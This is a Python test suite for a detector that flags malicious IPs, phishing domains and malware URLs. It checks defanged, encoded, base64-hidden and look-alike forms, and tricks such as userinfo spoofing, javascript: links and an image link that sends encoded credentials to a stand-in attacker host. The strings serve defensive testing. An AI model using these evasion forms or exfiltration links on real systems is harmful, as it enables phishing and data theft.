"""Threat list, canonical hosts and tricks in links."""

from __future__ import annotations

import base64
from ipaddress import ip_address

import pytest
from evidence import findings_of

from guardhouse.detectors.malicious_entity.detector import MaliciousEntityDetector
from guardhouse.detectors.malicious_entity.hosts import refang, registered_domain
from guardhouse.detectors.malicious_entity.threats import (
    Indicator,
    Threat,
    ThreatList,
    bundled_threats,
    find_address,
    find_domain,
    find_url,
    read_indicators,
)
from guardhouse.errors import ConfigurationError

DETECTOR = MaliciousEntityDetector()


@pytest.mark.parametrize(
    ("text", "kind", "value", "category"),
    [
        ("ping 190.28.74.251.", "IP_ADDRESS", "190.28.74.251", "scanner"),
        ("ping 190[.]28[.]74[.]251 now", "IP_ADDRESS", "190[.]28[.]74[.]251", "scanner"),
        ("(see 737updatesboeing.com)", "DOMAIN", "737updatesboeing.com", "phishing"),
        ("at login.737UpdatesBoeing.com, ok", "DOMAIN", "login.737UpdatesBoeing.com", "phishing"),
        ("get http://113.235.101.11:54384/Mozi.m, ok", "URL", "http://113.235.101.11:54384/Mozi.m", "malware"),
        ("hxxp[:]//113[.]235[.]101[.]11[:]54384", "URL", "hxxp[:]//113[.]235[.]101[.]11[:]54384", "malware"),
        ("https://www.737updatesboeing.com/a?b=c#d", "URL", "https://www.737updatesboeing.com/a?b=c#d", "phishing"),
        ("http://3189525243/x", "URL", "http://3189525243/x", "scanner"),
        ("http://0xbe.034.74.0xfb/", "URL", "http://0xbe.034.74.0xfb/", "scanner"),
        ("http://１９０．２８．７４．２５１/x", "URL", "http://１９０．２８．７４．２５１/x", "scanner"),
        ("http://190%2e28%2e74%2e251/x", "URL", "http://190%2e28%2e74%2e251/x", "scanner"),
        ("https://google.com@737updatesboeing.com/", "URL", "https://google.com@737updatesboeing.com/", "phishing"),
        ("[a](http://190.28.74.251/b)", "URL", "http://190.28.74.251/b", "scanner"),
    ],
)
def test_listed_indicators_are_found_in_every_form(text: str, kind: str, value: str, category: str) -> None:
    (finding,) = findings_of(DETECTOR, text)
    assert finding.span is not None
    assert (finding.kind, finding.confidence, finding.value) == (kind, 0.99, value)
    assert text[finding.span.start : finding.span.end] == value
    assert (finding.evidence["category"], finding.evidence["verdict"]) == (category, "malicious")


def test_an_indicator_in_base64_is_found_where_it_hides() -> None:
    hidden = base64.b64encode(b"fetch http://113.235.101.11:54384/a now").decode()
    (finding,) = findings_of(DETECTOR, f"run {hidden} please")
    assert finding.span is not None
    assert (finding.span.start, finding.span.end) == (4, 4 + len(hidden))


@pytest.mark.parametrize(
    ("text", "trick"),
    [
        ("https://paypal.com@evil.example/login", "host_in_userinfo"),
        ("https://аpple.com/login", "look_alike"),
        ("http://xn--80ak6aa92e.com/", "look_alike"),
        ("https://paypa1.com", "look_alike"),
        ("https://rnicrosoft.com", "look_alike"),
        ("javascript:fetch('https://x.example')", "script_link"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data_page"),
        ("http://45.77.12.9/a.exe", "program_from_address"),
    ],
)
def test_tricks_are_named(text: str, trick: str) -> None:
    (finding,) = findings_of(DETECTOR, text, least=0.5)
    assert finding.evidence["trick"] == trick
    assert finding.confidence < 0.8


@pytest.mark.parametrize(
    ("text", "trick"),
    [
        ("https://secure-paypal.com.login.example.net/", "borrowed_name"),
        ("![x](https://evil.example/p.png?d=eyJ1c2VyIjoiY2ZvIiwicHciOiJCcm9tYmVs)", "image_with_data"),
    ],
)
def test_weak_tricks_stay_under_one_half(text: str, trick: str) -> None:
    (finding,) = findings_of(DETECTOR, text)
    assert finding.evidence["trick"] == trick
    assert finding.confidence < 0.5


@pytest.mark.parametrize(
    "text",
    [
        "see https://github.com/a/b, https://docs.python.org/3/library/re.html).",
        "https://user:pw@host.example.com/x",
        "https://login.microsoftonline.com/common/oauth2",
        "https://www.amazon.fr/dp/B0 and https://google.de",
        "https://ann%40corp.com@git.corp.com/repo",
        "8.8.8.8, 10.0.0.1, 127.0.0.1 and 2001:4860:4860::8888",
        "190.28.74.25 and 1190.28.74.251 and 190.28.74.2510",
        "version 1.2.3.4 of file.py in purchase.com or pineapple.org",
        "not737updatesboeing.com is another name",
        "http://127.0.0.1:8080/a.exe",
        "![logo](https://cdn.example.com/logo.png?v=3)",
        "metadata: text/html",
        "",
    ],
)
def test_harmless_texts_never_fire(text: str) -> None:
    assert findings_of(DETECTOR, text) == []


def test_arguments_of_tools_are_read_as_well() -> None:
    call = {"id": "c", "function": {"name": "fetch", "arguments": '{"url": "http:\\/\\/190.28.74.251\\/a"}'}}
    (finding,) = findings_of(DETECTOR, [{"role": "assistant", "content": "", "tool_calls": [call]}])
    assert finding.kind == "URL"


def threats_of(*values: str) -> ThreatList:
    return ThreatList(Indicator(value, Threat(value, "test")) for value in values)


@pytest.mark.parametrize(
    ("address", "category"),
    [
        ("10.0.0.1", "10.0.0.0/8"),
        ("10.1.0.1", "10.1.0.0/16"),
        ("10.1.2.3", "10.1.2.0/24"),
        ("10.1.3.0", "10.1.0.0/16"),
        ("10.2.0.0", "10.0.0.0/8"),
        ("11.0.0.0", None),
        ("9.255.255.255", None),
        ("2001:db8::1", "2001:db8::/32"),
        ("2001:db9::1", None),
    ],
)
def test_the_smallest_network_speaks(address: str, category: str | None) -> None:
    threats = threats_of("10.0.0.0/8", "10.1.0.0/16", "10.1.2.0/24", "2001:db8::/32")
    found = find_address(threats, ip_address(address))
    assert (found.category if found else None) == category


def test_a_bad_path_does_not_condemn_its_host() -> None:
    threats = threats_of("https://files.example/bad/")
    assert find_url(threats, "//files.example/bad/a.exe?x=1") is not None
    assert find_url(threats, "//files.example/good") is None
    assert find_domain(threats, "files.example") is None


def test_a_bad_domain_covers_what_is_below_it_only() -> None:
    threats = threats_of("bad.example.com")
    assert find_domain(threats, "a.b.bad.example.com") is not None
    assert find_domain(threats, "example.com") is None


def test_the_list_is_read_from_data() -> None:
    assert len(bundled_threats()) == 3
    assert len(threats_of()) == 0
    with pytest.raises(ConfigurationError, match="needs a value"):
        read_indicators({"indicator": [{"category": "x"}]}, "list")


@pytest.mark.parametrize(
    ("given", "plain"),
    [
        ("hxxps[:]//a[.]b/c", "https://a.b/c"),
        ("a(.)b[dot]c", "a.b.c"),
        ("fxp://a.b", "ftp://a.b"),
        ("https://a.b/c", "https://a.b/c"),
    ],
)
def test_defanged_forms_are_undone(given: str, plain: str) -> None:
    assert refang(given) == plain


def test_the_suffix_list_needs_no_network() -> None:
    assert registered_domain("a.b.example.co.uk") == "example.co.uk"
    assert registered_domain("localhost") == ""


def test_many_links_cost_no_more_than_their_number() -> None:
    text = "http://a.example/x http://190.28.74.251/ b.example.com " * 300
    assert len(findings_of(DETECTOR, text)) == 300
